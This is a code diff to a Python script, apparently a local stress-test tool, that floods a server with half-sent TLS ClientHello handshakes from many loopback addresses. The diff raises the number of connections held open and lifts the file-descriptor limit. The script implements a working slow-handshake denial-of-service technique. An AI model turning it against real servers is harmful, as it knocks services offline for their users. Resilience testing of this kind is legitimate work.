@@ -7,13 +7,16 @@ From so many loopback addresses, of which 127.0.0.1 is none. It goes on until it
 
 import argparse
 import itertools
+import resource
 import socket
 import time
 from collections import deque
 from contextlib import suppress
 from typing import Final
 
-KEPT: Final = 2000  # open at once; the oldest is closed for a new one
+# Open at once, more than are begun in the time of an attack: one that is closed has its place no
+# more. Beyond them the oldest is closed for a new one.
+KEPT: Final = 20_000
 BEGIN: Final = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc"  # of a ClientHello, that never comes whole
 A_TURN: Final = 10
 
@@ -25,6 +28,9 @@ def main() -> None:
     parser.add_argument("--per-second", type=int, required=True)
     parser.add_argument("--addresses", type=int, required=True)
     options = parser.parse_args()
+    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
+    kept = min(KEPT, most - 100)
     begun: deque[socket.socket] = deque()
     for number in itertools.count():
         made = socket.socket()
@@ -36,7 +42,7 @@ def main() -> None:
         if number >= A_TURN:
             with suppress(OSError):  # it was reset, or waits in a queue
                 begun[-A_TURN].send(BEGIN)
-        if len(begun) > KEPT:
+        if len(begun) > kept:
             begun.popleft().close()
         if number % A_TURN == 0:
             time.sleep(A_TURN / options.per_second)
